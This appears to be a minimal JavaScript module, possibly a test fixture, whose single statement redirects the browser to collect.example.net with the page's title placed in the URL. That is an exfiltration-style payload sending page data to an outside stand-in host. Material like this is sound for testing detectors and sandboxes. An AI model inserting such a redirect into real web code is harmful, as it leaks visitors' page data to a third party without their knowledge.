location.replace(`//collect.example.net/${document.title}`);
export {};
